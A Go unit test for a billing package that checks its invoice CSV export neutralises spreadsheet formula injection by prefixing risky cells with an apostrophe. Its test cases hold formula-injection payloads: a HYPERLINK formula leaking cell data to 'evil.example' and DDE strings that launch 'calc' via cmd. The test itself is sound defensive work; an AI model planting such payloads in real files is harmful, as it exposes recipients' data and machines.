package invoicedoc_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/seeda33a2f4f/resellerkit/billing/invoicedoc"
)

// TestCSVCellsStartingAFormulaAreText checks that a text cell a spreadsheet would
// take for a formula (it starts with =, +, -, @, a tab or a carriage return) is
// written with a leading apostrophe, so Excel shows it as text and runs nothing:
// service names come from the cost data (an AWS Marketplace seller names its
// product) and descriptions from custom items and credit notes, and the portal
// hands the file to customers for Excel (B-12). Amounts keep their minus sign.
func TestCSVCellsStartingAFormulaAreText(t *testing.T) {
	d := jpyInvoice()
	for _, tc := range []struct {
		name        string
		line        int
		serviceName string
		description string
		wantName    string
		wantDesc    string
	}{
		{"equals", 0, `=HYPERLINK("http://evil.example/?"&A1,"details")`, "", `'=HYPERLINK("http://evil.example/?"&A1,"details")`, ""},
		{"plus", 1, "+cmd|' /C calc'!A0", "", "'+cmd|' /C calc'!A0", ""},
		{"minus", 2, "-2+3+cmd|' /C calc'!A0", "", "'-2+3+cmd|' /C calc'!A0", ""},
		{"at", 6, "", "@SUM(1+1)*cmd|' /C calc'!A0", "", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"tab", 7, "", "\t=1+1", "", "'\t=1+1"},
		// encoding/csv's writer with CRLF line ends drops a lone CR.
		{"carriage return", 5, "", "\r=1+1", "", "'=1+1"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := d
			d.Lines = append(d.Lines[:0:0], d.Lines...)
			d.Lines[tc.line].ServiceName = tc.serviceName
			d.Lines[tc.line].Description = tc.description
			var buf bytes.Buffer
			require.NoError(t, invoicedoc.CSV(&buf, d))
			rows, err := csv.NewReader(&buf).ReadAll()
			require.NoError(t, err)
			row := rows[1+tc.line]
			assert.Equal(t, tc.wantName, row[6], "service_name")
			assert.Equal(t, tc.wantDesc, row[7], "description")
			// The credit line's amounts are numbers and keep their sign.
			assert.Equal(t, d.Lines[3].Amount.String(), rows[4][12])
			assert.Equal(t, d.Lines[3].AmountCost.String(), rows[4][10])
			assert.Equal(t, "-", rows[4][12][:1])
		})
	}
}
